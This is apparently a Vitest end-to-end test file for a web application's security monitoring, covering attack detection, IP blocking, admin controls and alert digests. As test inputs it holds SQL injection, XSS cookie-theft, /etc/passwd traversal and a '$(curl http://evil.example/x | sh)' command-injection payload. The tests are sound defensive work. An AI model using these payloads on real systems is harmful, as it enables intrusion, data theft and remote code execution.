import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createMemoryStore } from '../../src/infra/kv/memory.js';
import { toCsv } from '../../src/shared/csv.js';
import { clientKey } from '../../src/shared/ip.js';
import { startN8nReceiver } from '../fixtures/n8n-receiver.js';
import { buildTestApp, createTestClock, type TestApp } from '../helpers/app.js';
import { createUser, type TestUser } from '../helpers/users.js';

/**
 * Security monitoring end to end: request inspection refuses and records attacks, scores add up
 * per address (IPv6 per /64) and block it for escalating periods, admins see and lift blocks,
 * alerts reach admins by email and a signed webhook in digests, and failed sign-ins feed the
 * same score. One app for the file; each test attacks from its own address.
 */
const WEBHOOK_SECRET = 'security-webhook-secret-0123456789';
let t: TestApp;
let admin: TestUser;
let user: TestUser;
const clock = createTestClock(new Date('2026-11-30T10:00:00.000Z'));
let receiver: Awaited<ReturnType<typeof startN8nReceiver>>;
let address = 10;
const nextIp = () => `198.51.100.${address++}`;

const get = (url: string, ip: string, headers: Record<string, string> = {}) =>
  t.app.inject({ method: 'GET', url, remoteAddress: ip, headers });

async function events(query: Record<string, string> = {}) {
  const response = await t.app.inject({
    method: 'GET',
    url: `/api/v1/admin/security/events?${new URLSearchParams({ limit: '100', ...query })}`,
    headers: admin.headers,
  });
  expect(response.statusCode).toBe(200);
  return response.json().data as Record<string, unknown>[];
}

beforeAll(async () => {
  receiver = await startN8nReceiver(WEBHOOK_SECRET);
  t = await buildTestApp({
    clock,
    env: {
      SECURITY_ALLOWLIST: '192.0.2.0/24',
      // The test clock moves hours ahead; the tokens signed at the start must outlive that.
      ACCESS_TOKEN_TTL_SECONDS: '86400',
      SECURITY_ALERT_WEBHOOK_URL: receiver.url,
      SECURITY_ALERT_WEBHOOK_SECRET: WEBHOOK_SECRET,
    },
  });
  admin = await createUser(t.app, { role: 'admin' });
  user = await createUser(t.app);
});

afterAll(async () => {
  await t?.close();
  await receiver?.close();
});

describe('request inspection', () => {
  it('refuses SQL injection in the query with 403 REQUEST_REJECTED and records a masked event', async () => {
    const ip = nextIp();
    const response = await get(
      `/api/v1/services/search?q=${encodeURIComponent("x' UNION SELECT email, password_hash FROM users -- jane@example.com")}`,
      ip,
    );
    expect(response.statusCode).toBe(403);
    const body = response.json();
    expect(body.code).toBe('REQUEST_REJECTED');
    expect(body.details[0].field).toBe('query.q');
    const [event] = await events({ ip });
    expect(event).toMatchObject({
      type: 'sql_injection',
      severity: 'critical',
      rule: 'sqli.union_select',
      location: 'query.q',
      action: 'refused',
      points: 40,
      ip,
      method: 'GET',
      route: '/api/v1/services/search',
      correlation_id: body.correlation_id,
    });
    expect(event?.sample).toContain('[email]');
    expect(event?.sample).not.toContain('jane@example.com');
  });

  it('refuses XSS in a JSON body field, path traversal in the path and attack tools by user agent', async () => {
    const ip = nextIp();
    const xss = await t.app.inject({
      method: 'PATCH',
      url: '/api/v1/me',
      remoteAddress: ip,
      headers: user.headers,
      payload: { name: '<img src=x onerror=alert(document.cookie)>' },
    });
    expect(xss.statusCode).toBe(403);
    expect(xss.json().details[0].field).toBe('body.name');
    const traversal = await get('/api/v1/content/..%2f..%2f..%2fetc%2fpasswd', ip);
    expect(traversal.statusCode).toBe(403);
    const scanner = await get('/api/health/live', ip, { 'user-agent': 'sqlmap/1.7.2#stable (https://sqlmap.org)' });
    expect(scanner.statusCode).toBe(403);
    expect(scanner.json().code).toBe('REQUEST_REJECTED');
    const types = (await events({ ip })).map((event) => event.type).sort();
    expect(types).toEqual(['path_traversal', 'scanner', 'xss']);
    const mine = (await events({ ip })).find((event) => event.type === 'xss');
    expect(mine?.user_id).toBe(user.id);
  });

  it("records a scanner's probe for files no route serves (404, scored)", async () => {
    const ip = nextIp();
    expect((await get('/wp-login.php', ip)).statusCode).toBe(404);
    expect((await get('/.env', ip)).statusCode).toBe(404);
    const probes = await events({ ip });
    expect(probes.map((event) => [event.type, event.rule, event.action, event.points])).toEqual([
      ['scanner', 'scanner.probe_path', 'scored', 5],
      ['scanner', 'scanner.probe_path', 'scored', 5],
    ]);
  });

  it('lets ordinary text with apostrophes, accents and medical words through', async () => {
    const ip = nextIp();
    for (const q of ["women's health", 'Zoë O’Brien', 'select a screening date', 'drop-in clinic; order by Friday']) {
      const response = await get(`/api/v1/services/search?q=${encodeURIComponent(q)}`, ip);
      expect(response.statusCode, q).toBe(200);
    }
    // A browser on a development machine sends its local page as the Referer: not an SSRF.
    const local = await get('/api/v1/services/search?q=massage', ip, { referer: 'http://localhost:3000/search' });
    expect(local.statusCode).toBe(200);
    expect(await events({ ip })).toEqual([]);
    const injected = await get('/api/v1/services/search?q=massage', ip, { referer: "http://x/' UNION SELECT 1,2--" });
    expect(injected.json().details[0].field).toBe('header.referer');
  });

  it('scores but does not refuse code-like text in a free-text field (admin Markdown)', async () => {
    const ip = nextIp();
    const response = await t.app.inject({
      method: 'POST',
      url: '/api/v1/admin/content',
      remoteAddress: ip,
      headers: admin.headers,
      payload: {
        type: 'article',
        slug: 'how-screening-results-are-stored',
        title: 'How screening results are stored',
        summary: 'What happens to your results',
        body: 'Our engineers sometimes write `<script>alert(1)</script>` in examples; it is shown as code.',
      },
    });
    expect([200, 201], response.body).toContain(response.statusCode);
    const [event] = await events({ ip });
    expect(event).toMatchObject({ type: 'xss', action: 'scored', location: 'body.body', points: 10 });
  });
});

describe('automatic blocking', () => {
  it('blocks an address whose attacks reach the threshold, 15 minutes, then 1 hour on the next offence', async () => {
    const ip = nextIp();
    const attack = () => get(`/api/v1/services/search?q=${encodeURIComponent('1 AND 1=1')}`, ip);
    // 20 points a try: the 5th reaches 100.
    for (let i = 0; i < 5; i++) expect((await attack()).statusCode).toBe(403);
    const blocked = await get('/api/health/live', ip);
    expect(blocked.statusCode).toBe(403);
    expect(blocked.json().code).toBe('IP_BLOCKED');
    expect(blocked.headers['retry-after']).toBe('900');
    // Other addresses are untouched.
    expect((await get('/api/health/live', nextIp())).statusCode).toBe(200);

    clock.advance(15 * 60_000 + 1000);
    expect((await get('/api/health/live', ip)).statusCode).toBe(200);
    for (let i = 0; i < 5; i++) await attack();
    const again = await get('/api/health/live', ip);
    expect(again.json().code).toBe('IP_BLOCKED');
    expect(again.headers['retry-after']).toBe('3600');

    const blocks = await t.app.inject({ method: 'GET', url: '/api/v1/admin/security/blocks', headers: admin.headers });
    const mine = (blocks.json().data as { ip: string; level: number; source: string }[]).find((b) => b.ip === ip);
    expect(mine).toMatchObject({ level: 2, source: 'automatic' });
    const audit = await t.app.inject({
      method: 'GET',
      url: '/api/v1/admin/audit?action=security.ip_blocked',
      headers: admin.headers,
    });
    expect(
      (audit.json().data as { details: { ip_key: string } }[]).filter((row) => row.details.ip_key === ip),
    ).toHaveLength(2);
  });

  it('groups IPv6 clients by their /64: rotating addresses inside it does not escape the block', async () => {
    expect(clientKey('2001:db8:7:9:1::1')).toBe('2001:db8:7:9::/64');
    for (let i = 1; i <= 5; i++) {
      await get(`/api/v1/services/search?q=${encodeURIComponent("' OR '1'='1")}`, `2001:db8:7:9::${i.toString(16)}`);
    }
    const rotated = await get('/api/health/live', '2001:db8:7:9:ffff::42');
    expect(rotated.json().code).toBe('IP_BLOCKED');
    expect((await get('/api/health/live', '2001:db8:7:a::1')).statusCode).toBe(200);
  });

  it('never blocks an allow-listed address (SECURITY_ALLOWLIST), but still records what it sent', async () => {
    const ip = '192.0.2.44';
    for (let i = 0; i < 8; i++) await get(`/api/v1/services/search?q=${encodeURIComponent('1;DROP TABLE users')}`, ip);
    expect((await get('/api/health/live', ip)).statusCode).toBe(200);
    const recorded = await events({ ip });
    expect(recorded).toHaveLength(8);
    expect(recorded.every((event) => event.points === 0)).toBe(true);
  });

  it('counts failed sign-ins towards the same score: 20 wrong passwords block the address', async () => {
    const ip = nextIp();
    for (let i = 0; i < 20; i++) {
      const response = await t.app.inject({
        method: 'POST',
        url: '/api/v1/auth/login',
        remoteAddress: ip,
        payload: { email: `nobody${i}@example.test`, password: 'wrong-password-123' },
      });
      expect(response.statusCode).toBe(401);
    }
    expect((await get('/api/health/live', ip)).json().code).toBe('IP_BLOCKED');
    const failures = await events({ ip, type: 'brute_force' });
    expect(failures).toHaveLength(20);
    // The failed sign-in's audit row names no actor; the account (when known) is the target.
    const audit = await t.app.inject({
      method: 'GET',
      url: '/api/v1/admin/audit?action=auth.login_failed&limit=5',
      headers: admin.headers,
    });
    for (const row of audit.json().data as { actor_id: string | null }[]) expect(row.actor_id).toBeNull();
  });
});

describe('admin: blocks, events and summary', () => {
  it('blocks and lifts an address by hand, audited; a lifted address starts from zero', async () => {
    const ip = nextIp();
    const created = await t.app.inject({
      method: 'POST',
      url: '/api/v1/admin/security/blocks',
      headers: admin.headers,
      payload: { ip, minutes: 30, reason: 'credential stuffing seen in the logs' },
    });
    expect(created.statusCode).toBe(201);
    const block = created.json().data;
    expect(block).toMatchObject({ ip, source: 'admin', active: true, created_by: admin.id });
    expect((await get('/api/health/live', ip)).headers['retry-after']).toBe('1800');

    const lifted = await t.app.inject({
      method: 'DELETE',
      url: `/api/v1/admin/security/blocks/${block.id}`,
      headers: admin.headers,
      payload: { reason: 'office address, added to the allow-list' },
    });
    expect(lifted.statusCode).toBe(200);
    expect(lifted.json().data).toMatchObject({ active: false, lifted_by: admin.id });
    expect((await get('/api/health/live', ip)).statusCode).toBe(200);
    const twice = await t.app.inject({
      method: 'DELETE',
      url: `/api/v1/admin/security/blocks/${block.id}`,
      headers: admin.headers,
    });
    expect(twice.statusCode, twice.body).toBe(409);
    expect(twice.json().code).toBe('INVALID_STATE');
    const audit = await t.app.inject({
      method: 'GET',
      url: `/api/v1/admin/audit?target_id=${block.id}`,
      headers: admin.headers,
    });
    expect((audit.json().data as { action: string }[]).map((row) => row.action).sort()).toEqual([
      'security.ip_blocked',
      'security.ip_unblocked',
    ]);
  });

  it('refuses a bad block request with an error that names the field, and non-admins with 403', async () => {
    const bad = await t.app.inject({
      method: 'POST',
      url: '/api/v1/admin/security/blocks',
      headers: admin.headers,
      payload: { ip: 'not-an-ip', reason: 'x' },
    });
    expect(bad.statusCode).toBe(400);
    expect(bad.json().code).toBe('VALIDATION_ERROR');
    const allowListed = await t.app.inject({
      method: 'POST',
      url: '/api/v1/admin/security/blocks',
      headers: admin.headers,
      payload: { ip: '192.0.2.9', reason: 'testing the allow-list' },
    });
    expect(allowListed.statusCode).toBe(409);
    for (const url of [
      '/api/v1/admin/security/events',
      '/api/v1/admin/security/blocks',
      '/api/v1/admin/security/summary',
    ]) {
      expect((await t.app.inject({ method: 'GET', url, headers: user.headers })).statusCode).toBe(403);
      expect((await t.app.inject({ method: 'GET', url })).statusCode).toBe(401);
    }
  });

  it('pages events with a cursor, filters them, exports CSV, and summarises by type, hour and address', async () => {
    const ip = nextIp();
    for (const q of ['<script>alert(1)</script>', "' or 1=1--", '../../etc/passwd']) {
      await get(`/api/v1/services/search?q=${encodeURIComponent(q)}`, ip);
    }
    const first = await t.app.inject({
      method: 'GET',
      url: `/api/v1/admin/security/events?ip=${ip}&limit=2`,
      headers: admin.headers,
    });
    const page = first.json();
    expect(page.data).toHaveLength(2);
    const second = await t.app.inject({
      method: 'GET',
      url: `/api/v1/admin/security/events?ip=${ip}&limit=2&cursor=${page.meta.next_cursor}`,
      headers: admin.headers,
    });
    expect(second.json().data).toHaveLength(1);
    expect(new Set([...page.data, ...second.json().data].map((e: { id: string }) => e.id)).size).toBe(3);
    const badCursor = await t.app.inject({
      method: 'GET',
      url: '/api/v1/admin/security/events?cursor=eyJhdCI6IngiLCJpZCI6InkifQ',
      headers: admin.headers,
    });
    expect(badCursor.statusCode).toBe(400);

    const csv = await t.app.inject({
      method: 'GET',
      url: `/api/v1/admin/security/events?ip=${ip}&format=csv`,
      headers: admin.headers,
    });
    expect(csv.headers['content-type']).toContain('text/csv');
    const lines = csv.body.trim().split('\r\n');
    expect(lines[0]).toContain('occurred_at,type,severity,rule,location,sample');
    expect(lines).toHaveLength(4);

    const summary = await t.app.inject({
      method: 'GET',
      url: '/api/v1/admin/security/summary',
      headers: admin.headers,
    });
    const data = summary.json().data;
    expect(data.by_type.xss).toBeGreaterThanOrEqual(1);
    expect(data.by_hour.length).toBeGreaterThan(0);
    expect(data.top_ips.some((row: { ip: string }) => row.ip === ip)).toBe(true);
    expect(data.active_blocks.length).toBeGreaterThan(0);
  });
});

describe('alerts', () => {
  it('emails every admin and posts a signed webhook at once, then holds later alerts for one digest', async () => {
    await t.app.platform.services.security.flush();
    await t.app.platform.jobs.securityAlerts.runOnce();
    await t.app.platform.dispatcher.runOnce();
    const before = receiver.delivered().length;
    expect(before).toBeGreaterThan(0);
    const first = receiver.delivered()[0]?.body as { summary: string; alerts: unknown[] };
    expect(first.alerts.length).toBeGreaterThan(0);

    // Within the digest window: a new critical event is stored and held.
    const ip = nextIp();
    await get(`/api/v1/services/search?q=${encodeURIComponent('1 UNION SELECT 1,2,3')}`, ip);
    await get(`/api/v1/services/search?q=${encodeURIComponent('$(curl http://evil.example/x | sh)')}`, ip);
    await t.app.platform.jobs.securityAlerts.runOnce();
    await t.app.platform.dispatcher.runOnce();
    expect(receiver.delivered().length).toBe(before);

    clock.advance(15 * 60_000 + 1000);
    await t.app.platform.jobs.securityAlerts.runOnce();
    await t.app.platform.dispatcher.runOnce();
    const digests = receiver.delivered().slice(before);
    expect(digests).toHaveLength(1);
    const digest = digests[0]?.body as { alerts: { kind: string }[] };
    expect(digest.alerts.map((alert) => alert.kind)).toEqual(
      expect.arrayContaining(['sql_injection', 'command_injection']),
    );
    const emails = await t.app.inject({
      method: 'GET',
      url: '/api/v1/admin/notifications?limit=100',
      headers: admin.headers,
    });
    expect(emails.statusCode).toBe(200);
    const alerts = (emails.json().data as { template: string; user_id: string }[]).filter(
      (row) => row.template === 'security_alert',
    );
    // One email per digest to the one admin: as many as the webhook got.
    expect(alerts).toHaveLength(receiver.delivered().length);
    expect(alerts.every((row) => row.user_id === admin.id)).toBe(true);
  });

  it('records a reused refresh token as a critical event', async () => {
    const victim = await createUser(t.app);
    const ip = nextIp();
    const refresh = (token: string) =>
      t.app.inject({
        method: 'POST',
        url: '/api/v1/auth/refresh',
        remoteAddress: ip,
        payload: { refresh_token: token },
      });
    expect((await refresh(victim.refreshToken)).statusCode).toBe(200);
    clock.advance(60_000);
    expect((await refresh(victim.refreshToken)).json().code).toBe('REFRESH_TOKEN_REUSED');
    const [event] = await events({ ip, type: 'refresh_token_reuse' });
    expect(event).toMatchObject({ severity: 'critical', user_id: victim.id });
  });
});

describe('findings fixed', () => {
  it('the memory store never evicts security state: 200,000 new keys leave every lockout and block', async () => {
    const store = createMemoryStore({ now: () => new Date() }, { maxEntries: 1000 });
    await store.set('auth:lock:victim@example.test', String(Date.now() + 60_000), 60_000);
    await store.increment('auth:failures:victim@example.test', 60_000);
    await store.set('auth:epoch:user-1', '123', 60_000);
    await store.increment('sec:score:ip:203.0.113.9:1', 60_000, 40);
    for (let i = 0; i < 200_000; i++) await store.increment(`rl:ip:10.${i >> 16}.${(i >> 8) & 255}.${i & 255}`, 60_000);
    expect(await store.get('auth:lock:victim@example.test')).toBeDefined();
    expect(await store.get('auth:failures:victim@example.test')).toBe('1');
    expect(await store.get('auth:epoch:user-1')).toBe('123');
    expect(await store.get('sec:score:ip:203.0.113.9:1')).toBe('40');
    // The bounded part still drops its oldest keys.
    expect(await store.get('rl:ip:10.0.0.0')).toBeUndefined();
    await store.close();
  });

  it('CSV export neutralises formulas after leading spaces and line breaks too', () => {
    const csv = toCsv([{ a: ' =HYPERLINK("http://x")' }, { a: '\n=1+1' }, { a: '\t@SUM(A1)' }, { a: 'plain' }]);
    const rows = csv.trim().split('\r\n').slice(1);
    expect(rows[0]).toBe(`"' =HYPERLINK(""http://x"")"`);
    expect(rows[1]).toBe(`"'\n=1+1"`);
    expect(rows[2]).toBe(`'\t@SUM(A1)`);
    expect(rows[3]).toBe('plain');
  });
});

describe('progressive delay on failed sign-ins', () => {
  it('answers each further failure later, doubling from the 2nd, without holding other requests', async () => {
    const delayed = await buildTestApp({ env: { LOGIN_DELAY_BASE_MS: '100', LOGIN_DELAY_MAX_MS: '400' } });
    try {
      const attempt = async () => {
        const started = performance.now();
        const response = await delayed.app.inject({
          method: 'POST',
          url: '/api/v1/auth/login',
          remoteAddress: '198.51.100.250',
          payload: { email: 'someone.slow@example.test', password: 'wrong-password-123' },
        });
        expect(response.statusCode).toBe(401);
        return performance.now() - started;
      };
      await attempt();
      // The 2nd failure waits 100 ms, the 3rd 200, the 4th 400 (the cap): lower bounds only.
      expect(await attempt()).toBeGreaterThanOrEqual(95);
      expect(await attempt()).toBeGreaterThanOrEqual(195);
      // While the 4th waits, the server answers others at once: the wait is a timer, not a thread.
      const fourth = attempt();
      const health = await delayed.app.inject({ method: 'GET', url: '/api/health/live' });
      expect(health.statusCode).toBe(200);
      expect(await fourth).toBeGreaterThanOrEqual(395);
    } finally {
      await delayed.close();
    }
  });
});
